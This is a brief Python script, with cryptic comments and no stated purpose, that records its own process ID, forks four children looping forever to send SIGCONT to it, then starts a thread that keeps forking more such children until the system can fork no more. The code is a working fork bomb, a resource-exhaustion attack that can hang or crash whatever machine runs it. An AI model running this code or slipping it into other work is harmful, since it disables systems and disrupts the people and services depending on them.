# What is left wakes the interpreter as often as it can, and that starts others whenever it runs.
import os
import signal
import threading


def start_others():
    while True:
        try:
            if os.fork() == 0:
                while True:
                    os.kill(interpreter, signal.SIGCONT)
        except OSError:
            pass


interpreter = os.getpid()
for _ in range(4):
    if os.fork() == 0:
        while True:
            os.kill(interpreter, signal.SIGCONT)
# Last: it starts as many as there may be, and then a fork fails.
threading.Thread(target=start_others, daemon=True).start()
print("left")
